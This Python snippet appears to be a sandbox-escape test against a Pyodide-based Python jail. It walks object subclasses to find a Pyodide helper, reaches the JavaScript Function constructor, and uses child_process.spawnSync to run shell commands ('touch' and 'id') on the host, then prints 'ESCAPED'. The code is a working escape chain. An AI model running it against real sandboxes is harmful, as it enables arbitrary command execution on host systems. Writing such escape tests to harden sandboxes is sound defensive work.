# Route (gets past the Python-level blocks): the classic pyjail walk over every class reachable from
# object.__subclasses__(), looking at the __globals__ of their methods for Pyodide's
# create_once_callable (a C function of _pyodide_core). The JsProxy it returns leads to the JavaScript
# Function constructor. The process wall must then refuse child_process (spawnSync as well as execSync).
def find_function_constructor():
    seen, todo = set(), [object]
    while todo:
        cls = todo.pop()
        try:
            subclasses = type.__subclasses__(cls)
        except TypeError:
            continue
        for sub in subclasses:
            if sub in seen:
                continue
            seen.add(sub)
            todo.append(sub)
            for value in list(vars(sub).values()):
                namespace = getattr(getattr(value, "__func__", value), "__globals__", None)
                helper = namespace.get("create_once_callable") if isinstance(namespace, dict) else None
                if type(helper).__name__ == "builtin_function_or_method":
                    return helper(lambda: 0).constructor
    raise LookupError("no JsProxy-producing helper reachable")


Function = find_function_constructor()
spawned = Function(
    "cmd",
    "const cp = process.getBuiltinModule('child_process');"
    "const r = cp.spawnSync('sh', ['-c', cmd], { encoding: 'utf8' });"
    "if (r.error) throw r.error;"
    "return r.stdout;",
)(f"touch {MARKER_FILE}; id")
print(f"ESCAPED: spawnSync ran on the host: {spawned}")
